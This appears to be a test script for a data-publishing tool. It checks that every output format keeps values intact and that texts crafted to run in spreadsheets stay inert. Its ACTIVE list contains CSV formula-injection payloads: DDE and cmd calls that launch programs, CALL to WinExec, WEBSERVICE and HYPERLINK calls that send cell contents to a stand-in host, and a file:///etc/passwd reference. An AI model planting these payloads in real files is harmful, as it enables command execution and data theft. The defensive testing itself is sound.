"""Every format of a package as other people's programs see it, and nothing in it that runs.

    python3 -m venv .venv
    .venv/bin/pip install pyarrow duckdb==1.5.5 duckdb-extension-spatial==1.5.5 polars openpyxl xmlschema geopandas pyproj
    .venv/bin/python tests/outside/formats.py target/release/tudien FOLDER

A table with every kind of value, with texts made to run in spreadsheets, and with places on the map is published in every
format. pyarrow, DuckDB and polars read Parquet; openpyxl the workbook; json, xmlschema (against the schema that comes with
it), csv and geopandas the rest: every value must be the same everywhere. LibreOffice, where it is installed, opens the CSV
(with `,` and with `;`) and the workbook and saves them again: no cell may have become a formula, a link or an error, every
text must be there. A set of more rows than a sheet holds goes over several sheets; parts are read as one. Ends with status
1 when any of this fails.
"""

import csv
import datetime
import io
import json
import math
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import duckdb
import geopandas
import openpyxl
import polars
import pyarrow.dataset
import pyarrow.parquet
import xmlschema

# texts that run in one spreadsheet or another, in the ways of OWASP, of public collections, and of our own
ACTIVE = [
    "=1+1", "=SUM(A1:A9)", "=cmd|'/C calc'!A0", "=cmd|' /C notepad'!'A1'", "=MSEXCEL|'\\..\\..\\Windows\\calc.exe'!''",
    "=DDE(\"soffice\";\"a.ods\";\"A1\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=HYPERLINK(\"http://a.example/?\"&A1;\"xem\")",
    "=HYPERLINK(\"http://a.example\",\"xem\")", "=WEBSERVICE(\"http://a.example/\"&A1)", "=IMPORTXML(\"http://a.example\",\"//a\")",
    "=IMPORTDATA(\"http://a.example\")", "=IMPORTFEED(\"http://a.example\")", "=IMPORTHTML(\"http://a.example\",\"table\",1)",
    "=IMPORTRANGE(\"x\",\"A1\")", "=IMAGE(\"http://a.example/x.png\")", "=FILTERXML(\"<a/>\",\"//a\")", "=INDIRECT(\"A1\")",
    "=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", "=REGISTER(\"urlmon\",\"x\")", "=EXEC(\"calc\")", "=RTD(\"a\",,\"b\")",
    "='file:///etc/passwd'#$passwd.A1", "=A1", "=A1&B1", "={1,2}", "=-1", "=+1", "=@A1", "==1", "=(1+1)", "=\"a\"&\"b\"",
    "+1+1", "+SUM(A1)", "+cmd|'/C calc'!A0", "++1", "+A1", "-1+1", "-SUM(A1)", "-cmd|'/C calc'!A0", "--1", "-A1", "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)", "@SUM(1+1)*cmd|'/C calc'!A0", "@A1", "@@A1", " =1+1", "  =SUM(A1)", " +1+1", " @SUM(A1)",
    "\u00a0=1+1", "'=1+1", "''=1+1", "\"=1+1\"", "=1+1\";=2+2", "a;=1+1", "a;=cmd|'/C calc'!A0;b", "x;@SUM(A1)", "x;+1+1", "x; =1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)", "a,=1+1", "a\",=1+1", "=1+1,b", "%0A-1+1", "=1+1#", "=|1", "=;1",
]
PLAIN = ["Xã Ea Kao", "066", "1-2", "a=b", "a+b", "Buôn H'Rat", "<b>&amp;\"c\"</b>", "Đắk Lắk; Phú Yên", "_x000D_", "TRUE", "1e5", "007"]
LIMIT = 1e-9

FIELD = """
[[field]]
id = "{id}"
title = "{title}"
title_en = "{id}"
description = "Cột thử {title}."
type = "{type}"
{more}
source = "Thử"
classification = {{ sharing = "3.3", importance = "4.1", secrecy = "6.1", reason = "Thử." }}
open = {{ method = "keep", reason = "Thử." }}
"""
ENTITY = """id = "noi_thu"
title = "Nơi thử"
title_en = "Test place"
description = "Bảng thử của các dạng tệp."
owner = "Sở Mẫu"
update = "hang_nam"
layer = "chuyen_nganh"
level = "tinh"
source = "Thử"
legal_basis = ["Nghị định 278/2025/NĐ-CP"]
key = ["ma"]
k_anonymity = 1
unrelated = "Bảng thử."
registration = { state = "hieu_luc", since = "2026-11-28" }
classification = { origin = "1.4", sharing = "3.2", importance = "4.1", secrecy = "6.1", structure = "8.1", reason = "Thử." }
"""
FIELDS = [
    ("ma", "Mã nơi thử", "van_ban", "required = true\nunique = true"),
    ("chu", "Chữ thử", "van_ban", ""),
    ("ngay", "Ngày thử", "ngay", ""),
    ("luc", "Lúc thử", "thoi_diem", ""),
    ("so", "Số thử", "so", ""),
    ("nguyen", "Nguyên thử", "so_nguyen", ""),
    ("dung", "Đúng thử", "logic", ""),
    ("x", "Tọa độ X", "so", 'role = "northing"'),
    ("y", "Tọa độ Y", "so", 'role = "easting"'),
    ("ktt", "Kinh tuyến trục", "ma_danh_muc", 'codes = "kinh_tuyen_truc"\nrole = "central_meridian"'),
    ("ranh", "Ranh thử", "van_ban", 'role = "outline"'),
    ("ma_tinh", "Mã tỉnh", "ma_tinh", 'role = "province_code"'),
]
faults = []


def fault(text):
    """Tells something that is wrong."""
    faults.append(text)
    print(text)


def dictionary(folder):
    """A dictionary with the entity of the test, laid over the built-in one."""
    place = folder / "tu_dien" / "entities" / "thu"
    place.mkdir(parents=True, exist_ok=True)
    fields = "".join(FIELD.format(id=i, title=t, type=k, more=m) for i, t, k, m in FIELDS)
    (place / "noi_thu.toml").write_text(ENTITY + fields, encoding="utf-8")
    return folder / "tu_dien"


def records():
    """The rows of the table."""
    rows = []
    for number, text in enumerate(ACTIVE + PLAIN):
        east = 440000 + 137.25 * number
        north = 1400000 + 211.5 * number
        corners = f"{north} {east}; {north + 80} {east}; {north + 80} {east + 60.5}; {north} {east + 60.5}"
        rows.append({
            "Mã nơi thử": f"N{number:03}",
            "Chữ thử": text,
            "Ngày thử": f"20{number % 27:02}-02-28" if number % 5 else ("1899-12-31" if number % 2 else ""),
            "Lúc thử": f"2026-07-01T08:{number % 60:02}:30" if number % 3 else "",
            "Số thử": "" if number % 7 == 0 else f"{'-' if number % 2 else ''}{number * 13}.{number % 10}5",
            "Nguyên thử": "" if number % 11 == 0 else str((number - 30) * (10**15 + 7 if number % 13 == 0 else 1)),
            "Đúng thử": ["có", "không", ""][number % 3],
            "Tọa độ X": f"{north}" if number % 6 else "",
            "Tọa độ Y": f"{east}" if number % 6 else "",
            "Kinh tuyến trục": "108-30",
            "Ranh thử": corners if number % 4 == 0 else "",
            "Mã tỉnh": "66",
        })
    return rows


def run(program, *arguments):
    """Runs the program; anything but success ends the test."""
    made = subprocess.run([program, *map(str, arguments)], capture_output=True, text=True, check=False)
    if made.returncode != 0:
        sys.exit(f"{arguments}\n{made.stdout}{made.stderr}")
    return made.stdout


def publish(program, folder, rows, name, *arguments):
    """Publishes rows; answers the folder of the package."""
    source = folder / f"{name}.json"
    source.write_text(json.dumps(rows, ensure_ascii=False), encoding="utf-8")
    target = folder / name
    shutil.rmtree(target, ignore_errors=True)
    run(program, "publish", source, "--entity", "noi_thu", "--dictionary", dictionary(folder), "--as-of", "2026-07-01",
        "--out", target, *arguments)
    return target


def active(text, first=True):
    """True for what a spreadsheet would run: the rule of the page of the format csv."""
    skipped = "".join(c for c in text[: len(text)] if c.isspace() and not (first and c in "\t\r\n")) + "'\ufeff\u200b"
    rest = text.lstrip(skipped)
    return rest[:1] != "" and (rest[0] in "=+-@＝＋－＠" or (first and rest[0] in "\t\r\n"))


def original(text):
    """A guarded text as it was: the rule of the page of the format csv."""
    parts, part = [], ""
    for letter in text:
        part += letter
        if letter in ";\t\r\n":
            parts.append(part)
            part = ""
    parts.append(part)
    return "".join(p[1:] if p.startswith("'") and active(p[1:], place == 0) else p for place, p in enumerate(parts))


def typed(name, text):
    """A text of CSV, JSON or XML as a value."""
    if text is None or text == "":
        return None
    kind = {i: k for i, _, k, _ in FIELDS}[name]
    if kind == "so":
        return float(text)
    if kind == "so_nguyen":
        return int(text)
    if kind == "logic":
        return text if isinstance(text, bool) else text == "true"
    if kind == "ngay":
        return datetime.date.fromisoformat(text)
    if kind == "thoi_diem":
        return datetime.datetime.fromisoformat(text)
    return text


def sheet_value(name, value):
    """A cell of a workbook as a value."""
    kind = {i: k for i, _, k, _ in FIELDS}[name]
    if kind == "ngay" and isinstance(value, datetime.datetime):
        return value.date()
    if kind in ("ngay", "thoi_diem", "so", "so_nguyen") and isinstance(value, str):
        return typed(name, value)
    if kind == "so" and value is not None:
        return float(value)
    return value


def compare(program, want, have):
    """Tells every value that differs."""
    if len(want) != len(have):
        fault(f"{program}: {len(have)} rows, wanted {len(want)}")
        return
    for left, right in zip(want, have):
        for name, value in left.items():
            if right.get(name) != value or type(right.get(name)) is not type(value):
                fault(f"{program}: {left['ma']}.{name}: {right.get(name)!r}, wanted {value!r}")
    print(f"{program}: {len(have)} rows, {len(have) * len(want[0])} values compared")


def parquet(path):
    """A Parquet file as three programs read it."""
    yield "pyarrow", pyarrow.parquet.read_table(path).to_pylist()
    reader = duckdb.sql(f"SELECT * FROM read_parquet('{path}') ORDER BY ma")
    yield "DuckDB", [dict(zip(reader.columns, row)) for row in reader.fetchall()]
    yield "polars", polars.read_parquet(path).to_dicts()


def values(package):
    """Every format against the Parquet file."""
    path = package / "noi_thu.parquet"
    (_, want), *others = list(parquet(path))
    for program, have in others:
        compare(program, want, have)
    with open(package / "noi_thu.csv", encoding="utf-8-sig", newline="") as file:
        guarded = list(csv.DictReader(file))
    compare("csv", want, [{n: typed(n, original(t) if n in ("chu", "ma", "ranh") else t) for n, t in r.items()} for r in guarded])
    for row in guarded:
        for part in row["chu"].replace("\n", ";").replace("\r", ";").replace("\t", ";").split(";"):
            if part.lstrip().lstrip("\ufeff\u200b")[:1] in tuple("=+-@＝＋－＠"):
                fault(f"csv: {row['ma']}: {row['chu']!r} would run")
    exact = json.loads((package / "noi_thu.json").read_text(encoding="utf-8"), parse_float=str)
    compare("json", want, [{n: typed(n, v) for n, v in row.items()} for row in exact])
    lines = (package / "noi_thu.ndjson").read_text(encoding="utf-8").splitlines()
    compare("ndjson", want, [{n: typed(n, v) for n, v in json.loads(line).items()} for line in lines])
    schema = xmlschema.XMLSchema(str(package / "noi_thu.xsd"))
    for error in list(schema.iter_errors(str(package / "noi_thu.xml")))[:5]:
        fault(f"xmlschema: {error.reason} at {error.path}")
    tree = ElementTree.parse(package / "noi_thu.xml").getroot()
    have = [{**dict.fromkeys(want[0]), **{e.tag: typed(e.tag, e.text) for e in record}} for record in tree]
    compare("xml", want, have)
    book = openpyxl.load_workbook(package / "noi_thu.xlsx")
    rows = list(book["Dữ liệu"].iter_rows())
    names = [cell.value for cell in rows[0]]
    for row in rows[1:]:
        for cell in row:
            if cell.data_type == "f":
                fault(f"xlsx: {cell.coordinate} is a formula: {cell.value!r}")
            if cell.data_type == "s" and active(cell.value) and not cell.quotePrefix:
                fault(f"xlsx: {cell.coordinate} runs when it is edited: {cell.value!r}")
    compare("openpyxl", want, [{n: sheet_value(n, c.value) for n, c in zip(names, row)} for row in rows[1:]])
    return want


def office(package, want, folder):
    """The CSV and the workbook through LibreOffice."""
    soffice = shutil.which("soffice")
    if soffice is None:
        print("SKIPPED: LibreOffice is not installed")
        return
    profile = f"-env:UserInstallation=file://{(folder / 'lo').resolve()}"
    texts = {row["ma"]: row["chu"] for row in want}
    control(soffice, profile, folder)
    for name, separator in (("noi_thu.xlsx", None), ("noi_thu.csv", 44), ("noi_thu.csv", 59)):
        out = folder / f"lo_{separator}"
        shutil.rmtree(out, ignore_errors=True)
        # formulas are looked for (the last token: evaluate formulas), as the dialogue of a careless user has it
        convert(soffice, profile, package / name, separator, out)
        said = f"LibreOffice, {name}" + ("" if separator is None else f" by {chr(separator)!r}")
        cells(said, out / (Path(name).stem + ".fods"), texts, separator)


def convert(soffice, profile, source, separator, out):
    """A file as LibreOffice understands it."""
    options = [] if separator is None else [f"--infilter=CSV:{separator},34,76,1,,1033,false,true,false,false,false,0,true"]
    subprocess.run(
        [soffice, profile, "--headless", *options, "--convert-to", "fods", "--outdir", str(out), str(source)],
        check=True, capture_output=True, timeout=300)


def control(soffice, profile, folder):
    """The same texts unguarded: formulas must be seen, or the check would see none anywhere."""
    for separator in (44, 59):
        with open(folder / "tran.csv", "w", encoding="utf-8-sig", newline="") as file:
            csv.writer(file).writerows([f"N{n}", text] for n, text in enumerate(ACTIVE))
        convert(soffice, profile, folder / "tran.csv", separator, folder / "tran")
        tree = ElementTree.parse(folder / "tran" / "tran.fods")
        name = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}formula"
        seen = sum(1 for element in tree.iter() if element.get(name) is not None)
        print(f"control: unguarded, by {chr(separator)!r}, LibreOffice makes {seen} formulas of {len(ACTIVE)} texts")
        if seen < (20 if separator == 44 else 3):
            fault(f"control: only {seen} formulas are seen")


def cells(said, path, texts, separator):
    """Looks for anything active in a flat OpenDocument file, and for every text."""
    office, table, text = (f"{{urn:oasis:names:tc:opendocument:xmlns:{n}:1.0}}" for n in ("office", "table", "text"))
    tree = ElementTree.parse(path)
    count, seen = 0, {}
    for element in tree.iter():
        if element.tag.endswith(("dde-link", "dde-source", "}a")) or "dde" in element.tag:
            fault(f"{said}: {element.tag}")
    for row in tree.iter(f"{table}table-row"):
        shown = []
        for cell in row.iter(f"{table}table-cell"):
            count += 1
            content = "\n".join("".join(p.itertext()) for p in cell.iter(f"{text}p"))
            shown.append(content)
            # true and false of a workbook are LibreOffice's =TRUE() and =FALSE(): no text became those
            boolean = cell.get(f"{table}formula") in ("of:=TRUE()", "of:=FALSE()")
            if cell.get(f"{table}formula") is not None and not (boolean and separator is None):
                fault(f"{said}: {content!r} became the formula {cell.get(f'{table}formula')!r}")
            if content.startswith(("#", "Err:")) and cell.get(f"{office}value-type") != "string":
                fault(f"{said}: an error: {content!r}")
        if shown and shown[0] in texts:
            seen[shown[0]] = shown
    if separator != 59:
        for code, want in texts.items():
            if separator is not None and want in PLAIN:
                continue  # a CSV opened by a double click loses zeros: the README says how to open it
            have = seen.get(code, ["", ""])[1]
            have = have if separator is None else original(have)
            if " ".join((want or "").split()) != " ".join(have.split()):
                fault(f"{said}: {code}: {have!r}, wanted {want!r}")
    print(f"{said}: {count} cells, {len(ACTIVE)} texts made to run, no formula, link or error" if not faults else said)


def places(package, want):
    """The GeoParquet file as geopandas reads it, against pyproj."""
    from pyproj import Transformer

    frame = geopandas.read_parquet(package / "noi_thu.vi_tri.parquet")
    if frame.crs is None or not frame.crs.equals("OGC:CRS84"):
        fault(f"geopandas: the reference system is {frame.crs}")
    compare("geopandas", want, [
        {n: None if (isinstance(v, float) and math.isnan(v)) or str(v) in ("NaT", "None") else v for n, v in row.items()}
        for row in pyarrow.parquet.read_table(package / "noi_thu.vi_tri.parquet").drop(["geometry"]).to_pylist()
    ])
    way = Transformer.from_pipeline(
        "+proj=pipeline +step +inv +proj=tmerc +lat_0=0 +lon_0=108.5 +k=0.9999 +x_0=500000 +ellps=WGS84 +step +proj=push +v_3 "
        "+step +proj=cart +ellps=WGS84 +step +proj=helmert +x=-191.90441429 +y=-39.30318279 +z=-111.45032835 +rx=-0.00928836 "
        "+ry=0.01975479 +rz=-0.00427372 +s=0.252906278 +convention=coordinate_frame +step +inv +proj=cart +ellps=WGS84 "
        "+step +proj=pop +v_3 +step +proj=unitconvert +xy_in=rad +xy_out=deg")
    worst, kinds = 0.0, {}
    for row, shape in zip(want, frame.geometry):
        if shape is None:
            kinds["none"] = kinds.get("none", 0) + 1
            if row["x"] is not None or row["ranh"] is not None:
                fault(f"geopandas: {row['ma']} has no shape")
            continue
        kinds[shape.geom_type] = kinds.get(shape.geom_type, 0) + 1
        if row["ranh"] is not None:
            corners = [tuple(map(float, corner.split())) for corner in row["ranh"].split(";")]
            lon, lat = way.transform([c[1] for c in corners], [c[0] for c in corners])
            wanted = {(round(a, 7), round(b, 7)) for a, b in zip(lon, lat)}
            have = {(round(a, 7), round(b, 7)) for a, b in shape.exterior.coords}
            if wanted != have or not shape.is_valid or not shape.exterior.is_ccw:
                fault(f"geopandas: {row['ma']}: {have} wanted {wanted}")
        else:
            lon, lat = way.transform(row["y"], row["x"])
            worst = max(worst, abs(shape.x - lon), abs(shape.y - lat))
    if worst > LIMIT:
        fault(f"geopandas: a point is {worst} degrees away")
    geo = json.loads(pyarrow.parquet.read_schema(package / "noi_thu.vi_tri.parquet").metadata[b"geo"])
    box = geo["columns"]["geometry"]["bbox"]
    if any(abs(a - b) > LIMIT for a, b in zip(box, frame.total_bounds)):
        fault(f"geopandas: the box is {frame.total_bounds}, the file says {box}")
    print(f"geopandas: {kinds}, points at most {worst:.1e} degrees from PROJ's")
    spatial(package / "noi_thu.vi_tri.parquet")


def spatial(path):
    """The shapes as DuckDB's spatial extension reads them, byte by byte."""
    try:
        import duckdb_extension_spatial
    except ImportError:
        print("SKIPPED: DuckDB's spatial extension is not installed")
        return
    extension = next(Path(duckdb_extension_spatial.__file__).parent.rglob("spatial.duckdb_extension"))
    base = duckdb.connect()
    base.sql(f"LOAD '{extension}'")
    kind = base.sql(f"DESCRIBE SELECT geometry FROM '{path}'").fetchall()[0][1]
    have = dict(base.sql(f"SELECT ma, ST_AsWKB(geometry) FROM '{path}'").fetchall())
    table = pyarrow.parquet.read_table(path, columns=["ma", "geometry"]).to_pylist()
    want = {row["ma"]: row["geometry"] for row in table}
    same = sum(want[code] == (None if shape is None else bytes(shape)) for code, shape in have.items())
    if len(have) != len(want) or same != len(want) or "CRS84" not in kind:
        fault(f"DuckDB spatial: {same} of {len(want)} shapes are the same; {kind}")
    print(f"DuckDB {duckdb.__version__} spatial: {kind}, {same} of {len(want)} shapes the same to the byte")


def parts(program, folder, rows):
    """A parted set read as one, and a set over several sheets."""
    package = publish(program, folder, rows, "phan", "--formats", "parquet,csv", "--partition", "ma_tinh", "--rows-per-file", "20")
    root = package / "noi_thu" / "parquet"
    files = sorted(root.rglob("*.parquet"))
    one = pyarrow.dataset.dataset(root, format="parquet").to_table().num_rows
    two = duckdb.sql(f"SELECT count(*) FROM read_parquet('{root}/**/*.parquet', hive_partitioning = false)").fetchall()[0][0]
    three = sum(polars.read_parquet(file).height for file in files)
    typed = duckdb.sql(
        f"SELECT DISTINCT ma_tinh FROM read_parquet('{root}/**/*.parquet', hive_types = {{'ma_tinh': VARCHAR}})").fetchall()
    if {one, two, three} != {len(rows)} or typed != [("66",)] or any("ma_tinh=66" not in str(file) for file in files):
        fault(f"parts: pyarrow {one}, DuckDB {two}, polars {three}, wanted {len(rows)}; {typed}")
    print(f"parts: {len(files)} files of {len(rows)} rows read as one by pyarrow, DuckDB and polars")


def large(program, folder):
    """More rows than a sheet holds."""
    count = 1_048_575 + 1_000
    rows = folder / "lon.csv"
    with open(rows, "w", encoding="utf-8", newline="") as file:
        table = csv.writer(file)
        table.writerow(["Mã nơi thử", "Chữ thử", "Số thử"])
        table.writerows([f"dòng {n}", "=1+1" if n % 1000 == 0 else "chữ", f"{n}"] for n in range(count))
    target = folder / "lon"
    shutil.rmtree(target, ignore_errors=True)
    said = run(program, "publish", rows, "--entity", "noi_thu", "--dictionary", dictionary(folder), "--as-of", "2026-07-01",
               "--out", target, "--formats", "xlsx,parquet")
    book = openpyxl.load_workbook(target / "noi_thu.xlsx", read_only=True)
    sizes = {sheet.title: sum(1 for _ in sheet.iter_rows()) for sheet in book if sheet.title != "Từ điển"}
    if sum(sizes.values()) - len(sizes) != count or len(sizes) != 2:
        fault(f"large: {sizes}, wanted {count} rows\n{said}")
    print(f"large: {count} rows on {len(sizes)} sheets: {sizes}")


def whole(package):
    """The workbook is a sound archive that Excel need not repair: every part is well-formed, every relation has its part."""
    archive = zipfile.ZipFile(package / "noi_thu.xlsx")
    if archive.testzip() is not None:
        fault("xlsx: a damaged part")
    names = set(archive.namelist())
    for name in names:
        if name.endswith((".xml", ".rels")):
            root = ElementTree.parse(io.BytesIO(archive.read(name))).getroot()
            if name.endswith(".rels"):
                base = Path(name).parent.parent
                for relation in root:
                    if relation.get("TargetMode") == "External":
                        fault(f"xlsx: {name} points outside: {relation.get('Target')}")
                    elif str(base / relation.get("Target")).lstrip("/") not in names and relation.get("Target").lstrip("/") not in names:
                        fault(f"xlsx: {name}: no part {relation.get('Target')}")
    for name in names:
        if any(word in name.lower() for word in ("externallink", "connection", "vba", "macro", "activex", "embedding")):
            fault(f"xlsx: {name}")
    print(f"xlsx: {len(names)} parts, none points outside")


def main(program, folder, *options):
    """Runs every check; answers the exit status."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    rows = records()
    package = publish(program, folder, rows, "goi", "--formats", "parquet,csv,xlsx,json,ndjson,xml,geoparquet")
    want = values(package)
    lost = [text for text in ACTIVE if text not in {row["chu"] for row in want}]
    print(f"{len(ACTIVE)} texts made to run, {len(ACTIVE) - len(lost)} of them letter by letter in the data; changed before: {lost}")
    if len(ACTIVE) - len(lost) < 60:
        fault("fewer than 60 of the texts reach the package")
    whole(package)
    office(package, want, folder)
    places(package, want)
    parts(program, folder, rows)
    if "--quick" not in options:
        large(program, folder)
    print(f"{len(faults)} fault(s)")
    return 1 if faults else 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:]))
